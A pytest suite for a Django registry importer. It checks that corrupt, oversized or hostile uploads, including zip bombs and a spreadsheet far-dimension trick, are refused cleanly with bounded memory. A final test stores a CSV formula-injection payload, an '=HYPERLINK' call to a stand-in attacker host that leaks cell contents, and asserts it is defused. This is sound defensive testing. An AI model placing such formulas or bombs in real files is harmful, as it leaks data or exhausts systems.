"""Bad files for the importers (issue 9, item 3): each is refused or reported cleanly in Chinese,
memory stays bounded, nothing is half-written.

Each file is read in a child process the way an import reads it (sniff, xlsx check, rows), and
the child's peak RSS is measured there: a bomb cannot hide behind the test runner's own peak.
Then the worst of them go through the real upload page and background run.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile

from core.models import AuditEntry, ImportJob
from entities.models import Entity
from tests.entities import badfiles as bad

ROOT = Path(__file__).resolve().parent.parent.parent
CJK = re.compile(r"[\u4e00-\u9fff]")
RSS_LIMIT_MB = 300

# name -> (builder, expected stage, a phrase of the expected message)
CASES = {
    "truncated xlsx": (lambda: bad.truncated(bad.good_xlsx(2000)), "upload", "xlsx 文件已损坏或不完整"),
    "zip that is no workbook": (bad.not_a_workbook_zip, "upload", "不是 Excel 工作簿"),
    "csv cut inside a character": (bad.csv_cut_in_a_character, "tabular", "无法按 UTF-8 解码"),
    "utf-16 csv": (lambda: bad.csv_encoded("utf-16"), "upload", "不是表格"),
    "bytes in no known encoding": (bad.csv_latin1_garbage, "upload", "无法识别这个文件的文字编码"),
    "a 5 MB cell": (bad.csv_huge_cell, "tabular", "超长的单元格"),
    "50 MB without a line break": (bad.csv_one_endless_line, "tabular", "超长的单元格"),
    "a cell at XFD1048576": (bad.xlsx_far_dimension, "tabular", "工作表"),
    "zip bomb (declared 1.5 GB)": (lambda: bad.xlsx_zip_bomb(1500), "tabular", "疑似压缩炸弹"),
    "zip bomb (500 MB of cells)": (lambda: bad.xlsx_zip_bomb(500), "tabular", "工作表过大"),
    "zip bomb with lying sizes": (lambda: bad.xlsx_lying_sizes(300), "tabular", "xlsx 文件已损坏"),
}
# Read in full, the bad rows left to validation (each reported with its row number).
READABLE = {
    "csv with an unclosed quote": (bad.csv_cut_in_a_quoted_field, 21),
    "gb18030 csv": (lambda: bad.csv_encoded("gb18030"), 30),
    "csv with formulas": (bad.csv_with_formulas, 10),
    "1M empty csv rows": (bad.csv_million_empty_rows, 3),
}


def probe(tmp_path: Path, content: bytes) -> dict:
    path = tmp_path / "upload.bin"
    path.write_bytes(content)
    proc = subprocess.run([sys.executable, "-m", "tests.entities.badfile_probe", str(path)], cwd=ROOT,
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr[-3000:]  # no abort, no panic, no traceback
    return json.loads(proc.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize("name", list(CASES))
def test_a_bad_file_is_refused_in_chinese_with_memory_bounded(name: str, tmp_path: Path) -> None:
    build, stage, phrase = CASES[name]
    outcome = probe(tmp_path, build())
    print(name, outcome)
    assert outcome["stage"] == stage, outcome
    assert phrase in outcome["message"], outcome
    assert CJK.search(outcome["message"]) and not re.search(r"[A-Za-z]{6,}", outcome["message"].replace("xlsx", "")), outcome
    assert outcome["rss_growth_mb"] < RSS_LIMIT_MB, outcome
    assert outcome["seconds"] < 60, outcome


@pytest.mark.parametrize("name", list(READABLE))
def test_a_readable_bad_file_streams_with_memory_bounded(name: str, tmp_path: Path) -> None:
    build, rows = READABLE[name]
    outcome = probe(tmp_path, build())
    print(name, outcome)
    assert outcome["stage"] == "read" and outcome["rows"] == rows, outcome
    assert outcome["rss_growth_mb"] < RSS_LIMIT_MB, outcome


def test_a_million_empty_xlsx_rows_are_read_with_memory_bounded(tmp_path: Path) -> None:
    outcome = probe(tmp_path, bad.xlsx_million_empty_rows())
    # The header lacks the required columns: refused after a bounded read, never a crash.
    assert outcome["stage"] == "tabular" and "缺少必需的列" in outcome["message"], outcome
    assert outcome["rss_growth_mb"] < RSS_LIMIT_MB, outcome


def test_the_bounds_check_bites(tmp_path: Path) -> None:
    """Without the check, calamine itself is asked for a 512 GB grid and the process aborts."""
    path = tmp_path / "far.xlsx"
    path.write_bytes(bad.xlsx_far_dimension())
    code = ("from python_calamine import CalamineWorkbook as W;"
            f"list(W.from_path({str(path)!r}).get_sheet_by_index(0).iter_rows())")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert proc.returncode != 0 and "memory allocation" in proc.stderr


# --- Through the upload page and the background run ---------------------------------------------
@pytest.fixture
def clerk_client(cast, client, settings, tmp_path):  # type: ignore[no-untyped-def]
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.CELERY_TASK_ALWAYS_EAGER = True
    cache.clear()
    client.force_login(cast.alice)
    return client


def send(client, content: bytes, name: str, capture):  # type: ignore[no-untyped-def]
    with capture(execute=True):
        return client.post("/imports/new/entities/", {"file": SimpleUploadedFile(name, content), "mode": "good"})


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("builder", "name", "phrase"),
    [
        (lambda: bad.truncated(bad.good_xlsx(2000)), "registry.xlsx", "xlsx 文件已损坏或不完整"),
        (lambda: bad.csv_encoded("utf-16"), "registry.csv", "不是表格"),
        (lambda: bad.good_xlsx(20), "registry.csv", None),  # named .csv, is xlsx: judged by content
    ],
)
def test_the_upload_page_refuses_or_accepts_by_content(clerk_client, django_capture_on_commit_callbacks,
                                                       builder, name, phrase) -> None:
    response = send(clerk_client, builder(), name, django_capture_on_commit_callbacks)
    if phrase is None:
        job = ImportJob.objects.get()
        assert response.status_code == 302 and job.file.name.endswith(".xlsx")
        assert job.status == ImportJob.Status.PREVIEWED and job.rows_total == 20
        return
    assert response.status_code == 200 and phrase in response.content.decode()
    assert not ImportJob.objects.exists() and not Entity.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("builder", "phrase"),
    [
        (lambda: bad.xlsx_zip_bomb(500), "工作表过大"),
        (bad.xlsx_far_dimension, "工作表"),
        (bad.csv_huge_cell, "超长的单元格"),
        (bad.csv_cut_in_a_character, "无法按 UTF-8 解码"),
    ],
)
def test_a_bad_file_fails_its_preview_cleanly_and_writes_nothing(clerk_client, django_capture_on_commit_callbacks,
                                                                  builder, phrase) -> None:
    response = send(clerk_client, builder(), "registry.xlsx", django_capture_on_commit_callbacks)
    job = ImportJob.objects.get()
    assert response.status_code == 302
    assert job.status == ImportJob.Status.FAILED, job.errors
    assert phrase in job.errors[0]["reason"], job.errors
    page = clerk_client.get(f"/imports/{job.pk}/").content.decode()
    assert phrase in page
    assert not Entity.objects.exists()
    assert not AuditEntry.objects.filter(action="import.entities").exists()


@pytest.mark.django_db
def test_formulas_are_kept_as_text_and_never_go_back_out_as_formulas(clerk_client, django_capture_on_commit_callbacks) -> None:
    """A formula in a cell is text to us: stored verbatim (escaped on every page), and every CSV we
    write (the error report here; public downloads in publicity) prefixes it so Excel won't run it."""
    send(clerk_client, bad.csv_with_formulas(), "registry.csv", django_capture_on_commit_callbacks)
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.PREVIEWED and job.error_count == 2, job.errors  # the tag row, the code row
    body = b"".join(clerk_client.get(f"/imports/{job.pk}/errors.csv").streaming_content).decode("utf-8-sig")
    import csv as _csv
    import io as _io

    reported = list(_csv.reader(_io.StringIO(body)))[1:]
    assert any(cell.endswith("=1+1") for row in reported for cell in row), reported  # echoed, defused
    for row in reported:
        assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row), row
    with django_capture_on_commit_callbacks(execute=True):
        clerk_client.post(f"/imports/{job.pk}/confirm/")
    assert ImportJob.objects.get().status == ImportJob.Status.DONE
    stored = Entity.objects.get(name__startswith="=HYPERLINK")
    page = clerk_client.get(f"/entities/{stored.uscc}/").content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A2" in page
